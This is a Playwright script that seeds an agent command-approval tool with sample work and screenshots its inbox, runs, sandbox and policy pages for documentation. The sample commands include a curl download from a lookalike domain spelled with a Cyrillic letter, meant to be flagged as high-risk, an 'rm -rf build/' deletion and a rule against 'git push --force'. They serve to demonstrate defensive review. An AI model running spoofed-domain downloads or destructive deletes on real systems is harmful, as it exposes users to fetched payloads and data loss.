// Makes the pictures of docs/pages.md from the running program: `ui/shots`. The
// data is made by real commands; what differs from run to run (ids, times) is
// small in them.
import { mkdirSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { asked, detail, put, row } from './tests/approvals';
import { test, expect, type Agent, type Server } from './tests/harness';
import { owner } from './tests/runs';

const OUT = resolve(process.env.SHOTS ?? '../docs/pages');
/** Everything there is, for whoever looks at the pages and not at the guide. */
const ALL = process.env.ALL === '1';

const DESKTOP = { width: 1280, height: 800 };
const PHONE = { width: 390, height: 780 };

mkdirSync(OUT, { recursive: true });
test.setTimeout(300_000);

async function shoot(page: Page, name: string, { dark = ALL, phone = ALL } = {}): Promise<void> {
  await page.mouse.move(0, 0);
  const sizes = phone ? ([['', DESKTOP], ['-phone', PHONE]] as const) : ([['', DESKTOP]] as const);
  for (const [size, viewport] of sizes) {
    await page.setViewportSize(viewport);
    for (const colorScheme of dark ? (['light', 'dark'] as const) : (['light'] as const)) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      const file = `${OUT}/${name}${size}${colorScheme === 'dark' ? '-dark' : ''}.png`;
      await page.waitForTimeout(300);
      await page.screenshot({ path: file, animations: 'disabled', caret: 'hide' });
    }
  }
  await page.setViewportSize(DESKTOP);
  await page.emulateMedia({ colorScheme: 'light' });
}

/** A small project, two agents and an afternoon of work. */
async function afternoon(server: Server, page: Page): Promise<{ coder: Agent; writer: Agent }> {
  put(server, 'README.md', '# Webshop\n\nCopy `legacy.toml` to your home directory.\nThen run `make`.\n');
  put(server, 'config/legacy.toml', '[shop]\nname = "demo"\n');
  put(server, 'build/cache/a.o', 'x');
  put(server, 'build/reports/today.txt', 'fine\n');
  put(server, 'src/main.c', 'int main(void) { return 0; }\n');
  put(server, 'src/cart.c', 'int total(int n) { return n * 2; }\n');
  const [coder, writer] = [server.agent('coder'), server.agent('writer')];
  const work = [
    [coder, 'ls -la', 'See what there is'],
    [coder, 'cat README.md', 'Read the README'],
    [coder, 'grep -rn total src', 'Find where totals are made'],
    [writer, 'wc -w README.md', 'Count the words'],
    [coder, 'sudo apt-get install make', 'Install make'],
    [coder, 'cat missing.txt', 'Read the notes'],
    [writer, 'head -n 3 README.md', 'Read the beginning'],
    [coder, 'find . -name "*.c" | xargs wc -l', 'How much code is there?'],
  ] as const;
  for (const [agent, command, description] of work) await agent.run(command, { description });
  await owner(page, 'POST', '/commands', { command: 'git --version', wait_ms: 5000 });
  return { coder, writer };
}

test('pictures', async ({ page, server }) => {
  await page.setViewportSize(DESKTOP);
  const { coder, writer } = await afternoon(server, page);
  const run = await asked(
    coder,
    "sed -i 's/legacy.toml/app.toml/' README.md && mv config/legacy.toml config/app.toml",
    { description: 'Rename the old config and update the README' },
  );
  await asked(writer, 'curl -fsSLO https://get.ex\u0430mple.dev/table.tgz', { description: 'Show the table', review: 'before' });
  await asked(coder, 'rm -rf build/', { description: 'Clean up', review: 'before' });
  await page.goto(`${server.address}/inbox/${run.approval_id}`);
  await expect(detail(page).getByText('tried in a copy')).toBeVisible();
  await expect(detail(page).getByRole('row', { name: /added/ }).first()).toBeVisible();
  await shoot(page, 'inbox', { dark: true, phone: true });

  await row(page, 'curl').click();
  await expect(detail(page).getByRole('button', { name: 'Approve anyway…' })).toBeVisible();
  await shoot(page, 'high-risk', { dark: ALL, phone: ALL });

  await row(page, 'rm -rf build/').click();
  await page.waitForTimeout(600);
  await page.getByRole('button', { name: /^Always…/ }).click();
  await expect(page.getByRole('dialog').getByRole('radio').first()).toBeVisible();
  await shoot(page, 'always');
  await page.keyboard.press('Escape');
  if (ALL) {
    await page.waitForTimeout(600);
    await page.keyboard.press('r');
    await shoot(page, 'reject');
    await page.keyboard.press('Escape');
  }

  await page.goto(`${server.address}/runs`);
  await expect(page.getByRole('row').nth(5)).toBeVisible();
  await shoot(page, 'runs', { dark: true, phone: ALL });
  const found = (await coder.run('find . -name "*.c" -exec cat {} +', { description: 'Read all the code' })).command_id;
  await page.goto(`${server.address}/runs/${found}/output`);
  await expect(page.getByText('int main').first()).toBeVisible();
  await shoot(page, 'run');
  if (ALL) {
    await page.goto(`${server.address}/runs/${found}/explain`);
    await shoot(page, 'explain');
    await page.goto(`${server.address}/runs/${found}/audit`);
    await shoot(page, 'audit');
  }

  const shell = await owner(page, 'POST', '/terminals', { name: 'dev-server', command: 'bash', description: 'Watch the tests' });
  await page.goto(`${server.address}/terminals/${shell.terminal_id ?? shell.command_id ?? 'dev-server'}`);
  await expect(page.getByText('dev-server').first()).toBeVisible();
  await page.waitForTimeout(1500);
  await shoot(page, 'terminal');

  await page.goto(`${server.address}/sandboxes`);
  await expect(page.getByRole('row').nth(1)).toBeVisible();
  if (ALL) await shoot(page, 'sandboxes');
  await page.goto(`${server.address}/sandboxes/new`);
  await page.getByRole('textbox', { name: /^Name/ }).fill('webshop');
  await page.getByRole('textbox', { name: 'Directory' }).fill(`${server.base}/src`);
  await expect(page.getByText('in 2 files')).toBeVisible();
  await shoot(page, 'sandbox');

  const { etag } = await owner(page, 'GET', '/policies/server');
  await page.evaluate(
    async ([etag, text]) => {
      await fetch('/agent/terminal/policies/server', {
        method: 'PUT',
        headers: { 'x-weighlock': '1', 'content-type': 'application/json', 'if-match': `"${etag}"` },
        body: JSON.stringify({ text, note: 'No force pushes' }),
      });
    },
    [
      String(etag),
      '[[rule]]\nname    = "no-force-push"\nreject  = "git push --force"\nbecause = "overwrites shared work"\n\n[[rule]]\nname    = "scratch"\nauto    = { program = "rm", paths = ["tmp", "tmp/**"] }\nbecause = "is only scratch"\n\n[[rule]]\nname    = "reads-code"\nask     = "xargs"\nagents  = "writer"\nuntil   = "2027-12-31"\nbecause = "runs other programs"\n',
    ] as const,
  );
  await page.goto(`${server.address}/policies?test=${encodeURIComponent('git status && rm -rf build/')}`);
  await expect(page.getByRole('complementary').getByRole('status')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Your rules' }).getByRole('listitem')).toHaveCount(3);
  await shoot(page, 'policies', { dark: true, phone: ALL });
  if (ALL) {
    await page.getByRole('button', { name: 'Add rule' }).click();
    await shoot(page, 'rule');
    await page.goto(`${server.address}/policies?view=text`);
    await shoot(page, 'text');
    await page.goto(`${server.address}/people`);
    await expect(page.getByText('coder').first()).toBeVisible();
    await shoot(page, 'people');
    for (const section of ['general', 'retention', 'health']) {
      await page.goto(`${server.address}/settings/${section}`);
      await page.waitForTimeout(800);
      await shoot(page, section);
    }
    await page.goto(`${server.address}/welcome`);
    await shoot(page, 'welcome');
  } else {
    await page.goto(`${server.address}/settings/retention`);
    await expect(page.getByRole('region', { name: 'Output and recordings' })).toBeVisible();
    await shoot(page, 'retention');
  }
});
